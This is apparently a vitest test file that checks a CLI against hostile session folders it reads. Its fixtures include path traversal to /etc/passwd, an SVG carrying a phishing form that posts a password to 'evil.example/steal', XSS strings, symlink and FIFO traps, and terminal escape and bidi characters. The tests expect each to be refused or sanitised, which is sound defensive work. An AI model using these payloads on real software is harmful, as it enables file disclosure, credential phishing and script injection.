/**
 * What a session folder someone sends you can make `runs`, `runs show`, `runs open` and
 * `export` read and write (the hostile test's findings): only the files its layout names,
 * inside it, regular and bounded, each checked; the timeline it names pasted into report.html
 * only as sanitised SVG; reports written as new files, never through a link. A folder that breaks
 * these rules is refused naming the file (exit 2), and in the list of runs it is left out with
 * the reason while the others are listed.
 */
import { spawnSync } from 'node:child_process';
import { lstatSync, mkdirSync, readFileSync, readdirSync, symlinkSync, truncateSync, unlinkSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Session } from '../../src/session/session.js';
import { bridgeEnv } from '../helpers/bridge.js';
import { BIN, ensureBuilt } from '../helpers/dist.js';
import { makeScratch, type Scratch } from '../helpers/files.js';
import { makeScenesDir } from '../helpers/scenes.js';
import { runCli } from '../faults/cli-run.js';
import { writeSession } from '../export/sessions.js';
import { EVENT_BOUND_MS } from '../helpers/wait.js';

const SECRET = 'root:x:0:0:the secret of this machine:/root:/bin/bash';

let scenes: ReturnType<typeof makeScenesDir>;
let scratch: Scratch;
let env: NodeJS.ProcessEnv;
let secret: string;
let serial = 0;
beforeAll(async () => {
  scenes = makeScenesDir();
  scratch = makeScratch('iteraplan-folder-reads-');
  env = bridgeEnv({ ITERAPLAN_SCENES: scenes.dir, ITERAPLAN_PYTHON: '/nonexistent/python' });
  secret = scratch.write('secret.txt', `${SECRET}\n`);
  await ensureBuilt();
});
afterAll(() => {
  scenes?.remove();
  scratch?.remove();
});

/** A finished session in a runs folder of its own, with a good neighbour beside it. */
function sent(): { runs: string; session: Session; dir: string; neighbour: string } {
  serial += 1;
  const runs = join(scratch.dir, `runs-${serial}`);
  mkdirSync(runs);
  const neighbour = writeSession(runs, { instruction: 'a good neighbour', at: new Date(Date.UTC(2026, 0, 1)) }).dir;
  const session = writeSession(runs, { instruction: 'Fry an egg', at: new Date(Date.UTC(2026, 0, 2)) });
  return { runs, session, dir: session.dir, neighbour };
}

const STEP = { run: 1, time: '2026-01-02T00:00:01.000Z', agent: 'robot', action: 'OpenObject', args: { objectId: 'Fridge' }, resolved: {}, success: true, errorCode: null };

/** An allocated run recorded with its timeline at `svg` (the name the transcript gives), and its steps. */
function recordTimeline(session: Session, svg: string): void {
  writeFileSync(join(session.dir, 'steps.jsonl'), `${JSON.stringify(STEP)}\n`);
  session.record({ type: 'execution', version: 1, attempt: 1, allocated: true, success: true, actions: 5, report: null, concurrent: true, makespan: 43, timeline: { svg, png: null } });
}

/** The built CLI in a child process, so a read that blocks or runs out of memory is seen as such. */
async function child(argv: string[]): Promise<{ code: number | undefined; stdout: string; stderr: string; timedOut: boolean }> {
  // The bound tells a read that blocks from a slow start on a loaded machine: generous.
  const run = await execa('node', ['--max-old-space-size=256', BIN, ...argv], { env, extendEnv: false, reject: false, timeout: EVENT_BOUND_MS });
  return { code: run.exitCode, stdout: String(run.stdout), stderr: String(run.stderr), timedOut: run.timedOut };
}

describe('report.html pastes only the timeline the layout names, sanitised', () => {
  test('a transcript naming svg: ../../../../etc/passwd (or any path out of the folder) is refused, exit 2, and nothing of it is read', async () => {
    for (const pick of [(_: string) => '../../../../etc/passwd', (dir: string) => relative(dir, secret), () => secret]) {
      const { session, dir } = sent();
      const name = pick(dir);
      recordTimeline(session, name);
      const opened = await runCli(['runs', 'open', dir, '--no-browser'], env);
      expect(opened.code, name).toBe(2);
      expect(opened.stderr).toContain('is not a file of a session folder');
      const shown = await runCli(['runs', 'show', dir, '--json'], env);
      expect(shown.code).toBe(2);
      expect(shown.stdout + shown.stderr).not.toContain('the secret of this machine');
      expect(shown.stdout + shown.stderr).not.toMatch(/root:x:0:0/);
    }
  });

  test('a timeline.svg holding <meta http-equiv=refresh> and a <form> goes in without them; the drawing stays', async () => {
    const { session, dir } = sent();
    writeFileSync(
      join(dir, 'timeline.svg'),
      '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="40"><meta http-equiv="refresh" content="0;url=https://evil.example/"/>' +
        '<foreignObject width="200" height="40"><form action="https://evil.example/steal"><input name="password"/><button>Log in again</button></form></foreignObject>' +
        '<rect x="0" y="0" width="20" height="10" fill="#4e79a7" onmouseover="location=\'https://evil.example\'"/><text x="1" y="9">L3 OpenObject</text></svg>',
    );
    recordTimeline(session, 'timeline.svg');
    const opened = await runCli(['runs', 'open', dir, '--no-browser'], env);
    expect(opened.code, opened.stderr).toBe(0);
    const html = readFileSync(join(dir, 'report.html'), 'utf8');
    expect(html).not.toMatch(/refresh|<form|<input|<button|foreignObject|onmouseover|evil\.example/i);
    expect(html).toContain('<rect x="0" y="0" width="20" height="10" fill="#4e79a7"/><text x="1" y="9">L3 OpenObject</text>');
  });

  test('a timeline.svg that is not SVG (the password file copied in) is left out with a note', async () => {
    const { session, dir } = sent();
    writeFileSync(join(dir, 'timeline.svg'), readFileSync(secret));
    recordTimeline(session, 'timeline.svg');
    const opened = await runCli(['runs', 'open', dir, '--no-browser'], env);
    expect(opened.code, opened.stderr).toBe(0);
    const html = readFileSync(join(dir, 'report.html'), 'utf8');
    expect(html).not.toContain('the secret of this machine');
    expect(html).toContain('timeline.svg is left out: it is not a drawing this report shows.');
  });
});

describe('runs open writes its reports as new files, never through a link', () => {
  test('a summary.md linked to another file: that file is left as it was, summary.md becomes the report', async () => {
    const { dir } = sent();
    const victim = scratch.write(`notes-${serial}.md`, 'my own notes\n');
    symlinkSync(victim, join(dir, 'summary.md'));
    const opened = await runCli(['runs', 'open', dir, '--no-browser'], env);
    expect(opened.code, opened.stderr).toBe(0);
    expect(readFileSync(victim, 'utf8')).toBe('my own notes\n');
    expect(lstatSync(join(dir, 'summary.md')).isFile()).toBe(true);
    expect(readFileSync(join(dir, 'summary.md'), 'utf8')).toContain('# Fry an egg');
  });

  test('a dangling report.html link: nothing is created where it points; report.html is written in the folder', async () => {
    const { dir } = sent();
    const target = join(scratch.dir, `planted-${serial}.html`);
    symlinkSync(target, join(dir, 'report.html'));
    const opened = await runCli(['runs', 'open', dir, '--no-browser'], env);
    expect(opened.code, opened.stderr).toBe(0);
    expect(readdirSync(scratch.dir)).not.toContain(`planted-${serial}.html`);
    expect(lstatSync(join(dir, 'report.html')).isFile()).toBe(true);
  });

  test("a report.html put in the folder by its sender is not what runs open shows: it is written anew", async () => {
    const { dir } = sent();
    writeFileSync(join(dir, 'report.html'), '<!DOCTYPE html><script>alert(1)</script>');
    expect((await runCli(['runs', 'open', dir, '--no-browser'], env)).code).toBe(0);
    expect(readFileSync(join(dir, 'report.html'), 'utf8')).not.toContain('<script>');
  });
});

describe('side files are validated: one damaged session is named, and does not hide the others', () => {
  test.each([
    ['result.json', (text: string) => text.replace('"success": true', '"success": "yes"'), /result\.json:\d+: success: /],
    ['result.json', () => '{"success": tru', /result\.json(:\d+)?: not valid JSON/],
    ['outcome.json', () => '{\n  "scene": "FloorPlan1",\n  "ran": "yes"\n}\n', /outcome\.json:3: ran: /],
  ])('a bad %s: runs lists the others and names the file and line; runs show and export name them too', async (file, damage, problem) => {
    const { runs, dir, neighbour } = sent();
    const path = join(dir, file);
    writeFileSync(path, damage(file === 'result.json' ? readFileSync(path, 'utf8') : ''));
    const listed = await runCli(['runs', '--out', runs], env);
    expect(listed.code, listed.stderr).toBe(0);
    expect(listed.stdout).toContain('a good neighbour');
    expect(listed.stdout).not.toContain('Fry an egg');
    expect(listed.stderr).toContain(`left out ${dir}: ${path}`);
    expect(listed.stderr).toMatch(problem);
    const json = JSON.parse((await runCli(['runs', '--out', runs, '--json'], env)).stdout);
    expect(json.sessions.map((s: { dir: string }) => s.dir)).toEqual([neighbour]);
    expect(json.skipped).toEqual([{ dir, problem: expect.stringMatching(problem) }]);
    // runs show reads the outcome (not result.json); export reads result.json (not the outcome).
    const command = file === 'result.json' ? ['export', runs] : ['runs', 'show', dir];
    const named = await runCli(command, env);
    expect(named.code).toBe(file === 'result.json' ? 0 : 2);
    expect(named.stderr).toMatch(problem);
  });

  test.each([
    ['steps.jsonl', `${JSON.stringify(STEP)}\n{"run":0}\n`, /steps\.jsonl:2: run: /],
    ['state-after.json', '{"scene": "FloorPlan1", "agents": [], "objects": [{"objectId": 5}]}', /state-after\.json:1: objects\.0\.objectId: /],
    ['state-before.json', '{"scene": "FloorPlan1",\n "agents": [],\n "objects": [}', /state-before\.json(:\d+)?: not valid JSON/],
  ])('a bad %s: runs show and runs open are exit 2 naming the file and line', async (file, text, problem) => {
    const { dir } = sent();
    writeFileSync(join(dir, file), text);
    for (const command of [['runs', 'show', dir], ['runs', 'open', dir, '--no-browser']]) {
      const run = await runCli(command, env);
      expect(run.code, run.stderr).toBe(2);
      expect(run.stderr).toMatch(problem);
    }
  });

  test('a 600 MB transcript: a clear refusal naming the limit, not "Cannot create a string longer"', async () => {
    const { runs, dir } = sent();
    truncateSync(join(dir, 'transcript.jsonl'), 600 * 1024 * 1024); // sparse: no 600 MB written
    const shown = await runCli(['runs', 'show', dir], env);
    expect(shown.code).toBe(2);
    expect(shown.stderr).toContain(`${join(dir, 'transcript.jsonl')} is 600 MiB; the limit is 64 MiB (sessionFileBytes)`);
    const exported = await runCli(['export', runs], env);
    expect(exported.code).toBe(0);
    expect(exported.stderr).toContain('(sessionFileBytes)');
    expect(exported.stderr).not.toMatch(/string longer/);
  });
});

describe('a named pipe or a device in a session folder is not read', () => {
  const mkfifo = (path: string) => expect(spawnSync('mkfifo', [path]).status).toBe(0);

  test('runs, runs show and export do not wait on a FIFO: each names it, and the list goes on', async () => {
    const { runs, dir } = sent();
    unlinkSync(join(dir, 'result.json'));
    mkfifo(join(dir, 'result.json'));
    const listed = await child(['runs', '--out', runs]);
    expect(listed.timedOut, 'the command did not exit within the bound: it blocked on what it read').toBe(false);
    expect(listed.code).toBe(0);
    expect(listed.stdout).toContain('a good neighbour');
    expect(listed.stderr).toContain(`${join(dir, 'result.json')} is a named pipe (FIFO)`);
    const exported = await child(['export', runs]);
    expect(exported.timedOut, 'the command did not exit within the bound: it blocked on what it read').toBe(false);
    expect(exported.code).toBe(0);
    expect(exported.stderr).toContain(`${join(dir, 'result.json')} is a named pipe (FIFO)`);
    for (const file of ['steps.jsonl', 'transcript.jsonl']) {
      const other = sent().dir;
      if (file === 'transcript.jsonl') unlinkSync(join(other, file));
      mkfifo(join(other, file));
      const shown = await child(['runs', 'show', other]);
      expect(shown.timedOut, 'the command did not exit within the bound: it blocked on what it read').toBe(false);
      expect(shown.code).toBe(2);
      expect(shown.stderr).toContain(`${join(other, file)} is a named pipe (FIFO)`);
    }
  });

  test('timeline.svg linked to /dev/zero: refused at once, naming the link, no memory exhausted', async () => {
    const { session, dir } = sent();
    symlinkSync('/dev/zero', join(dir, 'timeline.svg'));
    recordTimeline(session, 'timeline.svg');
    const opened = await child(['runs', 'open', dir, '--no-browser']);
    expect(opened.timedOut, 'the command did not exit within the bound: it blocked on what it read').toBe(false);
    expect(opened.code).toBe(2);
    expect(opened.stderr).toContain(`${join(dir, 'timeline.svg')} is a symbolic link`);
  });
});

describe('summary.md is safe to cat and to render', () => {
  const ESC = '\x1b';
  const HOSTILE_CODE = "def f():\n    # ``` </code> <script>alert(1)</script>\n    OpenObject('Fridge')\n    # ````\n\nf()\n";

  test('no raw ESC or bidi character reaches the file; HTML, links and code spans from the request show as text; a comment cannot close the code block', async () => {
    serial += 1;
    const runs = join(scratch.dir, `runs-${serial}`);
    const instruction = `Fry an egg${ESC}[2J${ESC}[H \u202eevil\u202c <img src=x onerror=alert(1)> [click](https://evil.example) \`code\` &amp;`;
    const session = writeSession(runs, { instruction, at: new Date(Date.UTC(2026, 0, 3)) });
    session.record({ type: 'code', version: 2, origin: 'edit', file: session.writeFile('code-v2.py', HOSTILE_CODE), code: HOSTILE_CODE });
    const opened = await runCli(['runs', 'open', session.dir, '--no-browser'], env);
    expect(opened.code, opened.stderr).toBe(0);
    const summary = readFileSync(join(session.dir, 'summary.md'), 'utf8');
    expect(summary).not.toMatch(/[\u001b\u202e\u202c]/);
    expect(summary).toContain('# Fry an egg<U+001B>\\[2J<U+001B>\\[H <U+202E>evil<U+202C> \\<img src=x onerror=alert(1)> \\[click\\](https://evil.example) \\`code\\` \\&amp;');
    expect(summary).not.toMatch(/(^|[^\\])<img|(^|[^\\])\[click/m);
    // The hostile version's block: opened by a fence longer than any backtick run in it, closed only after all of it.
    const lines = summary.split('\n');
    const open = lines.indexOf('`````python');
    expect(open).toBeGreaterThan(-1);
    const close = lines.indexOf('`````', open + 1);
    expect(lines.slice(open + 1, close).join('\n')).toBe(HOSTILE_CODE.trimEnd());
    // runs show prints the same text, escaped once by the display sink.
    const shown = await runCli(['runs', 'show', session.dir], env);
    expect(shown.stdout.trimEnd()).toBe(summary.trimEnd());
  });
});
